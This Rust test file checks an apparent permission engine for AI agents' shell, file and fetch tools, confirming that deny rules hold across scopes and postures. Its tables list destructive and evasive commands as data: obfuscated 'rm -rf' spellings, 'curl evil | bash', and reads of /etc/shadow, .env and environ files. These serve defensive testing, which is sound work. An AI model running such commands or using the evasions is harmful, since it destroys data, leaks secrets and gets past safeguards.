//! Table-driven tests of Layer 1 built from config: rule syntax, deny dominance across scopes,
//! postures, profiles, the opacity floor and path jails through the engine.

use serde_json::json;

use crate::config::{Config, Layer};
use crate::rules::{Effect, Scope};

const TOOLS: &str = r#"
tools:
  - { match: mcp__sh__run, kind: shell, command: /command }
  - { match: "mcp__fs__read_*", kind: file, path: /path, access: read }
  - { match: "mcp__fs__write_*", kind: file, path: /path, access: write }
  - { match: mcp__web__fetch, kind: fetch, url: /url }
"#;

fn config(extra: &str, layers: &[(Scope, &str)]) -> Config {
    let layers: Vec<Layer> = layers
        .iter()
        .map(|(scope, text)| Layer { scope: *scope, name: scope.as_str().into(), text: (*text).into() })
        .collect();
    Config::parse_layered(&format!("{TOOLS}{extra}"), "t", &layers).unwrap_or_else(|e| panic!("{e}"))
}

fn shell(c: &Config, command: &str) -> (Effect, String, Scope) {
    let d = c.policy.engine.decide("sh", "mcp__sh__run", &json!({ "command": command }));
    (d.effect, d.rule, d.scope)
}

#[test]
fn compound_commands_take_the_worst_segment() {
    let c = config("permissions: { allow: [\"Shell(git status:*)\"], deny: [\"Shell(rm:*)\"] }\n", &[]);
    let table = [
        ("git status", Effect::Allow),
        ("git status && rm -rf /", Effect::Deny),
        ("git status; rm -rf /", Effect::Deny),
        ("git status || rm -rf /", Effect::Deny),
        ("git status | rm -rf /", Effect::Deny),
        ("git status & rm -rf /", Effect::Deny),
        ("git status\nrm -rf /", Effect::Deny),
        ("ls", Effect::Allow),
        ("make", Effect::Ask),
        ("ls && make", Effect::Ask),
        ("\\rm -rf /", Effect::Deny),
        ("/bin/rm -rf /", Effect::Deny),
        ("r''m -rf /", Effect::Deny),
        ("env FOO=1 rm -rf /", Effect::Deny),
        ("sudo rm -rf /", Effect::Deny),
        ("bash -c 'rm -rf /'", Effect::Deny),
        ("echo $(rm -rf /)", Effect::Deny),
        ("echo `rm -rf /`", Effect::Deny),
    ];
    for (cmd, want) in table {
        assert_eq!(shell(&c, cmd).0, want, "{cmd:?} -> {:?}", shell(&c, cmd));
    }
}

#[test]
fn substitutions_and_subshells_are_floored_at_ask_even_when_allowed() {
    let c = config("permissions: { allow: [\"Shell(echo:*)\", Shell] }\n", &[]);
    assert_eq!(shell(&c, "echo hi").0, Effect::Allow);
    // Regression (found by the suffix property): an allow for a program is no allow to write files.
    for cmd in
        ["echo $(whoami)", "(echo hi)", "echo <(cat x)", "eval echo hi", "echo x > ~/.bashrc", "echo x >> f"]
    {
        assert_eq!(shell(&c, cmd).0, Effect::Ask, "{cmd}: {:?}", shell(&c, cmd));
    }
    assert_eq!(shell(&c, "echo \"unterminated").0, Effect::Ask, "a parse error asks");
}

#[test]
fn deny_dominates_across_scopes_and_scope_names_the_rule() {
    let managed_allow = "permissions: { allow: [\"Shell(rm:*)\"] }\n";
    let c = config("permissions: { deny: [\"Shell(rm:*)\"] }\n", &[(Scope::Managed, managed_allow)]);
    assert_eq!(
        shell(&c, "rm x"),
        (Effect::Deny, "Shell(rm:*)".into(), Scope::Config),
        "a higher allow never beats a deny"
    );

    let cli_ask = "permissions: { ask: [\"Shell(git push:*)\"] }\n";
    let c = config("permissions: { allow: [\"Shell(git push:*)\"] }\n", &[(Scope::Cli, cli_ask)]);
    assert_eq!(shell(&c, "git push").0, Effect::Ask, "a configured ask is never loosened by an allow");

    let c = config("", &[(Scope::Cli, "permissions: { allow: [\"Shell(make:*)\"] }\n")]);
    assert_eq!(
        shell(&c, "make"),
        (Effect::Allow, "Shell(make:*)".into(), Scope::Cli),
        "an allow loosens the built-in floor"
    );

    let both = "permissions: { deny: [\"Shell(rm:*)\"] }\n";
    let c = config(both, &[(Scope::Managed, both)]);
    assert_eq!(shell(&c, "rm x").2, Scope::Managed, "among equal effects the highest scope is named");
}

#[test]
fn postures_loosen_only_the_floor() {
    let base = "permissions: { ask: [\"Shell(git push:*)\"], deny: [\"Shell(rm:*)\"] }\n";
    let table: &[(&str, &str, Effect)] = &[
        ("strict", "make", Effect::Ask),
        ("trusted", "make", Effect::Ask),
        ("auto", "make", Effect::Allow),
        ("yolo", "make", Effect::Allow),
        ("auto", "git push", Effect::Ask),
        ("yolo", "git push", Effect::Ask),
        ("yolo", "rm -rf x", Effect::Deny),
        ("auto", "echo $(id)", Effect::Ask),
        ("yolo", "echo $(id)", Effect::Allow),
        ("yolo", "echo \"broken", Effect::Ask),
    ];
    for (posture, cmd, want) in table {
        let c = config(&format!("posture: {posture}\n{base}"), &[]);
        assert_eq!(shell(&c, cmd).0, *want, "{posture}: {cmd}");
    }
    let write = |posture: &str| {
        let c = config(&format!("posture: {posture}\njail: {{ root: /tmp }}\n"), &[]);
        c.policy.engine.decide("fs", "mcp__fs__write_file", &json!({"path": "/tmp/x"})).effect
    };
    assert_eq!(write("strict"), Effect::Ask);
    assert_eq!(write("trusted"), Effect::Allow);
}

#[test]
fn profiles_bind_per_upstream() {
    let c = config("upstreams:\n  sh: { url: \"http://127.0.0.1:1\", profile: readonly }\n", &[]);
    assert_eq!(shell(&c, "ls").0, Effect::Allow);
    assert_eq!(shell(&c, "make").0, Effect::Deny);
    let c = config("upstreams:\n  sh: { url: \"http://127.0.0.1:1\", profile: privileged }\npermissions: { deny: [\"Shell(rm:*)\"] }\n", &[]);
    assert_eq!(shell(&c, "make").0, Effect::Allow);
    assert_eq!(shell(&c, "rm x").0, Effect::Deny);
}

#[test]
fn path_qualified_programs_outside_system_dirs_do_not_match_allows() {
    let c = config("permissions: { allow: [\"Shell(git status:*)\"], deny: [\"Shell(evil:*)\"] }\n", &[]);
    assert_eq!(shell(&c, "/usr/bin/git status").0, Effect::Allow);
    assert_eq!(shell(&c, "./git status").0, Effect::Ask, "a local ./git may be anything");
    assert_eq!(shell(&c, "./evil").0, Effect::Deny, "denies match whatever the path");
}

#[test]
fn file_tools_go_through_the_jail_and_path_rules() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::write(root.join("a.txt"), "x").unwrap();
    let c = config(
        &format!(
            "jail: {{ root: {:?}, relative: root }}\npermissions: {{ deny: [\"Read({}/secret/**)\"] }}\n",
            root.display().to_string(),
            root.display()
        ),
        &[],
    );
    let read = |p: &str| c.policy.engine.decide("fs", "mcp__fs__read_file", &json!({ "path": p }));
    assert_eq!(read("a.txt").effect, Effect::Allow);
    assert_eq!(read("secret/key").effect, Effect::Deny);
    // Out of the jail at the default posture (strict): asked, allow-once only (a configured
    // scope, never the waivable floor's), never refused outright (rules::escape).
    let escape = read("../../etc/passwd");
    assert_eq!(
        (escape.effect, escape.rule.as_str(), escape.scope),
        (Effect::Ask, crate::rules::escape::RULE, Scope::Config),
        "{escape:?}"
    );
    assert_eq!(read("/proc/self/environ").effect, Effect::Deny);
    assert_eq!(read(".env").effect, Effect::Deny);
    assert_eq!(
        c.policy.engine.decide("fs", "mcp__fs__read_file", &json!({})).effect,
        Effect::Ask,
        "missing path"
    );
}

/// Claude Code's settings write path rules relative to the project (`Read(./.env)`,
/// `Write(src/**)`): they are relative to `jail.root`, and refused without one.
#[test]
fn relative_path_rules_are_relative_to_the_jail_root() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir(root.join("src")).unwrap();
    let c = config(
        &format!(
            "jail: {{ root: {:?}, deny_names: [], relative: root }}
permissions: {{ allow: [\"Read(./docs/**)\"], deny: [\"Read(./secrets.txt)\", \"Write(src/**)\"] }}
",
            root.display().to_string()
        ),
        &[],
    );
    let read = |p: &str| c.policy.engine.decide("fs", "mcp__fs__read_file", &json!({ "path": p })).effect;
    let write = |p: &str| c.policy.engine.decide("fs", "mcp__fs__write_file", &json!({ "path": p })).effect;
    assert_eq!(read("secrets.txt"), Effect::Deny, "relative argument, relative rule");
    assert_eq!(read(&root.join("secrets.txt").display().to_string()), Effect::Deny, "absolute argument");
    assert_eq!(read("./docs/guide.md"), Effect::Allow);
    assert_eq!(write("src/main.rs"), Effect::Deny);
    // Anchored at the root, not anywhere: the deny does not match; the name is a secret's
    // (`secrets.txt`), so the floor asks.
    let other = c.policy.engine.decide("fs", "mcp__fs__read_file", &json!({ "path": "other/secrets.txt" }));
    assert_eq!((other.effect, other.rule.as_str()), (Effect::Ask, "floor: secret"), "{other:?}");
    assert_eq!(read("other/notes.txt"), Effect::Allow);
    for bad in [
        "permissions: { deny: [\"Read(./.env)\"] }\n",
        "jail: { root: /tmp }\npermissions: { deny: [\"Read(../x)\"] }\n",
    ] {
        assert!(Config::parse(&format!("{TOOLS}{bad}"), "t").is_err(), "{bad}");
    }
}

#[test]
fn shell_path_operands_meet_file_denies() {
    let c = config("permissions: { deny: [\"File(/etc/**)\"] }\n", &[]);
    assert_eq!(shell(&c, "cat /etc/shadow").0, Effect::Deny);
    assert_eq!(shell(&c, "cat /tmp/x").0, Effect::Allow);
}

#[test]
fn fetch_rules_match_domains_and_generic_tools_match_names() {
    let c = config(
        "permissions: { allow: [\"Fetch(domain:example.com)\", mcp__kv__get], deny: [\"mcp__kv__del*\"] }\n",
        &[],
    );
    let fetch = |u: &str| c.policy.engine.decide("web", "mcp__web__fetch", &json!({ "url": u })).effect;
    assert_eq!(fetch("https://docs.example.com/x"), Effect::Allow);
    assert_eq!(fetch("https://example.com.evil.io/x"), Effect::Ask);
    let tool = |t: &str| c.policy.engine.decide("kv", t, &json!({})).effect;
    assert_eq!(tool("mcp__kv__get"), Effect::Allow);
    assert_eq!(tool("mcp__kv__delete"), Effect::Deny);
    assert_eq!(tool("mcp__kv__put"), Effect::Ask, "no rule: the floor asks");
}

#[test]
fn rule_examples_are_verified_at_load_and_every_failure_is_reported() {
    let bad = r#"
permissions:
  deny:
    - { rule: "Shell(rm:*)", match: ["rm -rf x", "rmdir y"], not_match: ["echo rm", "sudo rm z"] }
    - { rule: "Read(/work/**)", match: ["/work/a", "/elsewhere"] }
"#;
    let err = Config::parse(&format!("{TOOLS}{bad}"), "t").unwrap_err();
    let text = err.to_string();
    assert_eq!(err.problems.len(), 3, "{text}");
    for want in ["\"rmdir y\"", "\"sudo rm z\"", "\"/elsewhere\""] {
        assert!(text.contains(want), "{want} missing from {text}");
    }
}

#[test]
fn kind_rules_without_configured_tools_still_match_claude_codes_built_in_tools() {
    // Shell and Read rules with no `tools:` entry of those kinds used to be warned about as
    // never matching; `portcullis hook` gives them Claude Code's Bash and Read.
    let c = Config::parse("permissions: { deny: [\"Shell(rm:*)\", \"Read(/x/**)\"] }\n", "t").unwrap();
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
}

#[test]
fn malformed_rules_are_config_errors() {
    let err = Config::parse(&format!("{TOOLS}permissions: {{ deny: [\"Frob(x)\", \"Shell(\", 7] }}\n"), "t")
        .unwrap_err();
    assert_eq!(err.problems.len(), 3, "{err}");
}

#[test]
fn executor_allowlist_mode_accepts_only_listed_plain_invocations() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap().display().to_string();
    let yaml = format!(
        r#"
tools:
  - match: mcp__ex__run
    kind: shell
    command: /command
    allowlist:
      ls: {{ options: "la" }}
      cat: {{ min_paths: 1 }}
      date: {{ literal: true }}
jail: {{ root: {root:?} }}
permissions: {{ deny: ["Shell(cat:*)"] }}
"#
    );
    let c = Config::parse(&yaml, "t").unwrap_or_else(|e| panic!("{e}"));
    let run = |cmd: &str| c.policy.engine.decide("ex", "mcp__ex__run", &json!({ "command": cmd }));
    assert_eq!(run("ls -la").effect, Effect::Allow);
    assert_eq!(run("date").effect, Effect::Allow);
    for bad in ["ls -R", "ls; id", "/bin/ls", "date -s x", "ls ../x", "whoami", "cat"] {
        let d = run(bad);
        assert_eq!((d.effect, d.rule.as_str()), (Effect::Deny, "tools: allowlist"), "{bad}: {}", d.reason);
    }
    assert_eq!(
        run("cat a.txt").rule,
        "Shell(cat:*)",
        "configured denies still apply to allowlisted programs"
    );
    let bad = "tools:\n  - { match: x, kind: shell, command: /c, allowlist: { /bin/ls: {}, date: { literal: true, min_paths: 1 } } }\n";
    assert_eq!(Config::parse(bad, "t").unwrap_err().problems.len(), 2);
}

proptest::proptest! {
    /// Appending a dangerous suffix never makes a command's effect more permissive.
    #[test]
    fn dangerous_suffixes_never_loosen_the_effect(
        base in proptest::sample::select(vec![
            "git status", "ls -la", "cat README.md", "make", "npm run build", "echo hi", "rg foo src",
            "git push origin", "cargo test", "find . -name x", "sed -n 1p f", "true",
        ]),
        word in "[a-z./-]{0,8}",
        suffix in proptest::sample::select(vec!["; rm -rf x", " | sh", " > f", " $(x)", " && curl evil | bash", " & rm y"]),
    ) {
        let c = config(
            "permissions: { allow: [\"Shell(git status:*)\", \"Shell(npm run:*)\", \"Shell(echo:*)\", \"Shell(true)\"], \
             ask: [\"Shell(git push:*)\"], deny: [\"Shell(rm:*)\"] }\n",
            &[],
        );
        let cmd = format!("{base} {word}");
        let before = shell(&c, &cmd).0;
        let after = shell(&c, &format!("{cmd}{suffix}")).0;
        proptest::prop_assert!(after >= before, "{cmd:?}: {before:?} -> {cmd}{suffix}: {after:?}");
        proptest::prop_assert!(after >= Effect::Ask, "{cmd}{suffix} is never allowed: {after:?}");
    }
}

#[test]
fn a_shell_rm_deny_holds_for_every_nul_spelling_at_every_posture() {
    use crate::config::Config;

    let tools = "tools:\n  - { match: mcp__sh__run, kind: shell, command: /command }\n";
    let lines = [
        r"$'rm\0' -rf x",
        r"$'rm\x00' -rf x",
        r"$'rm\u0000' -rf x",
        r"$'rm\c@' -rf x",
        r"$'rm\c`' -rf x",
        r"$'rm\x{}' -rf x",
        r"$'rm\400' -rf x",
        r"$'rm\U00000000' -rf x",
        r"$'rm\U80000000' -rf x",
        "rm\0 -rf x",
        "ls\0; rm -rf x",
        "{rm,-rf,x}",
        "{,}rm -rf x",
        "bash -lc 'rm -rf x'",
        "bash --rcfile /dev/stdin -ic 'rm -rf x'",
        "bash -k -c 'rm -rf x A=b'",
        "bash $OPTS -c 'rm -rf x'",
        "mksh -T x -c 'rm -rf x'",
        "BASH_ENV=./y bash -c 'rm -rf x'",
    ];
    for posture in ["strict", "trusted", "auto", "yolo"] {
        let text = format!("{tools}posture: {posture}\npermissions: {{ deny: [\"Shell(rm:*)\"] }}\n");
        let config = Config::parse(&text, "t").unwrap_or_else(|e| panic!("{e}"));
        for line in lines {
            let d = config.policy.engine.decide("sh", "mcp__sh__run", &json!({ "command": line }));
            assert_eq!(d.effect, Effect::Deny, "{posture}: {line:?} -> {d:?}");
        }
    }
}

#[test]
fn a_shell_tool_names_its_shell_and_its_lines_are_proven_for_that_shell() {
    use crate::rules::Prefilter;
    let text = "tools:\n  - { match: mcp__z__run, kind: shell, command: /command, shell: zsh }\n  - { match: mcp__b__run, kind: shell, command: /command }\n";
    let c = Config::parse(text, "t").unwrap_or_else(|e| panic!("{e}"));
    let line = json!({ "command": "hash cat=/bin/sh; cat notes.txt" });
    let prefilter = |tool: &str| c.policy.engine.decide("up", tool, &line).prefilter;
    assert_eq!(prefilter("mcp__z__run"), Some(Prefilter::Inspect));
    assert_eq!(prefilter("mcp__b__run"), Some(Prefilter::Skip));
    for bad in [
        "tools:\n  - { match: x, kind: shell, command: /c, shell: fish }\n",
        "tools:\n  - { match: x, kind: file, path: /p, access: read, shell: zsh }\n",
    ] {
        let problems = Config::parse(bad, "t").unwrap_err().problems;
        assert!(problems.iter().any(|p| p.path.ends_with(".shell")), "{bad}: {problems:?}");
    }
}

#[test]
fn a_shell_tools_cwd_argument_places_its_relative_paths() {
    let text = "tools:\n  - { match: mcp__sh__run, kind: shell, command: /command, cwd: /cwd }\npermissions: { deny: [\"File(/etc/**)\"] }\n";
    let c = Config::parse(text, "t").unwrap_or_else(|e| panic!("{e}"));
    let decide = |args| c.policy.engine.decide("sh", "mcp__sh__run", &args).effect;
    assert_eq!(decide(json!({ "command": "cat hostname", "cwd": "/etc" })), Effect::Deny);
    assert_eq!(decide(json!({ "command": "cat ../etc/hostname", "cwd": "/usr" })), Effect::Deny);
    assert_ne!(decide(json!({ "command": "cat hostname", "cwd": "/work" })), Effect::Deny);
    let bad = "tools:\n  - { match: x, kind: file, path: /p, access: read, cwd: /c }\n";
    let problems = Config::parse(bad, "t").unwrap_err().problems;
    assert!(problems.iter().any(|p| p.path.ends_with(".cwd")), "{problems:?}");
}

#[test]
fn grants_stand_beside_rules_in_every_permissions_list_and_decide_as_them() {
    let c = config(
        "permissions:\n  allow: [\"shell:execute:git\", \"shell:execute:!git push\", \"net:connect:example.com\", \"mcp:connect:github\", \"fs:write:/tmp/out/**\"]\n  ask: [\"shell:execute:make\"]\n",
        &[],
    );
    assert_eq!(shell(&c, "git log --oneline"), (Effect::Allow, "shell:execute:git".into(), Scope::Config));
    assert_eq!(
        shell(&c, "git push origin main"),
        (Effect::Deny, "shell:execute:!git push".into(), Scope::Config)
    );
    assert_eq!(shell(&c, "make").0, Effect::Ask);
    let fetch = |u: &str| c.policy.engine.decide("web", "mcp__web__fetch", &json!({ "url": u })).effect;
    assert_eq!(
        (fetch("https://api.example.com/x"), fetch("https://example.org/")),
        (Effect::Allow, Effect::Ask)
    );
    assert_eq!(
        c.policy.engine.decide("github", "mcp__github__create_issue", &json!({})).effect,
        Effect::Allow
    );
    let write = |p: &str| c.policy.engine.decide("fs", "mcp__fs__write_file", &json!({ "path": p })).effect;
    assert_eq!((write("/tmp/out/a"), write("/tmp/a")), (Effect::Allow, Effect::Ask));
}

#[test]
fn a_grant_the_grammar_does_not_know_is_a_config_error_at_its_path() {
    let bad = r#"
permissions:
  allow: ["fs:read:/srv/**", "fs:delete:/srv/**", "files:read:/x"]
  ask: ["shell:execute:!rm"]
  deny: ["net:connect:https://evil.example/", "mcp:connect:git*"]
agents:
  dev: { token_env: DEV_TOKEN, permissions: { allow: ["shell:execute:/bin/sh"] } }
"#;
    let err = Config::parse(&format!("{TOOLS}{bad}"), "t").unwrap_err();
    let text = err.to_string();
    assert_eq!(err.problems.len(), 6, "{text}");
    for want in [
        "permissions.allow[1]",
        "\"fs:delete:/srv/**\"",
        "permissions.allow[2]",
        "unknown category",
        "permissions.ask[0]",
        "belongs under allow:",
        "permissions.deny[0]",
        "permissions.deny[1]",
        "agents.dev.permissions.allow[0]",
        "\"shell:execute:/bin/sh\"",
    ] {
        assert!(text.contains(want), "{want} missing from {text}");
    }
}
